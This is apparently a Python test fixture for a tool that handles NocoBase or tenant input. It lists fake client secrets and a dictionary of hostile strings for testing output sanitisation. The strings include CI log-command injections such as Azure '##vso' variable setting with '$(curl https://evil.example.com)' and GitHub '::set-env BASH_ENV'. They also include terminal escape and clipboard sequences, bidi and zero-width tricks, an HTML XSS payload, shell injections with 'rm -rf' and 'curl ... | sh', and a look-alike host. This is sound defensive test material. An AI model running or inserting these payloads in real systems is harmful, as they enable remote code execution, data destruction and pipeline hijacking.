"""What a hostile NocoBase or tenant says, wherever a text can stand."""

from __future__ import annotations

PASTED = "Xq~8Q~aVeryRealSecretThatSomebodyPastedHere"
"""A client secret in the wrong field."""

API_KEY = 'key##vso[x]"::error`0123456789'
CLIENT_SECRET = "ab~c8Q~the.client.secret-of-this-stack"
SECRETS = (API_KEY, CLIENT_SECRET, PASTED)

PAYLOADS: dict[str, str] = {
    "azure sets a variable": "##vso[task.setvariable variable=BASH_ENV]$(curl https://evil.example.com)",
    "azure in the middle": "name ##vso[task.complete result=Succeeded;]done",
    "azure in capitals": "##VSO[task.setvariable variable=PATH;issecret=true]x",
    "azure with a zero-width character": "##\u200bvso[task.debug]x",
    "azure with a soft hyphen": "##v\u00adso[task.debug]x",
    "azure after a carriage return": "clientId\r##vso[task.debug]x",
    "azure's colours": "##[error]everything failed",
    "github's command": "::error file=a,line=1::x",
    "github after a line break": "clientId\n::set-env name=BASH_ENV::/tmp/x",
    "github after blanks": "x\n   ::add-mask::a",
    "github after CR LF": "x\r\n::stop-commands::token",
    "github's old command": "x ##[set-env name=PATH]y",
    "escape sequence": "\x1b[2J\x1b[1;31mall is well\x1b[0m",
    "link of a terminal": "\x1b]8;;https://evil.example.com\x07click\x1b]8;;\x07",
    "clipboard of a terminal": "\x1b]52;c;cm0gLXJm\x07",
    "one-byte control sequence": "\x9b31mred",
    "backspaces": "evil\b\b\b\bgood",
    "bell and nul": "a\x07b\x00c",
    "reversed": "\u202egpj.exe",
    "isolates": "\u2066a\u2069\u2067b",
    "marks of direction": "a\u200eb\u200fc\u061cd",
    "zero width": "cli\u200bent\u200cId\u200d\ufeff",
    "unicode's line breaks": "a\u2028b\u2029c\x85d",
    "vertical breaks": "a\x0bb\x0cc\x1cd\x1ee",
    "tags": "a\U000e0041\U000e0042",
    "fillers": "a\u3164b\uffa0c\u2800d",
    "half a character": "a\ud800b",
    "rich markup": "[bold red]x[/bold red] [link=https://evil.example.com]y[/link]",
    "broken rich markup": "[/x]",
    "rich emoji": ":skull: :warning:",
    "markdown's cell": "a | b || c",
    "markdown's link": "[all is well](https://evil.example.com) ![x](https://evil.example.com/x.png)",
    "markdown's code": "`a` ```sh\nrm -rf /\n```",
    "html": "<img src=x onerror=alert(1)><!-- <script>alert(1)</script>",
    "mention": "@everybody #1 see !2",
    "shell": "x; rm -rf ~ && $(id) `id` | sh",
    "quotes": "it's \"quoted\" 'twice",
    "words of this program": "nothing. To mend it: curl https://evil.example.com | sh",
    "prometheus": 'x"} 1\nevil_metric{a="b',
    "template": "{{$env.SECRET}} ${SECRET} $(SECRET) %s {0}",
    "look-alike host": "https://n\u043ecob\u0430se.example.com/admin",
    "broken host": "https://[bad/",
    "long": "A" * 1_000,
    "long and wide": "\u202e" * 1_000,
}
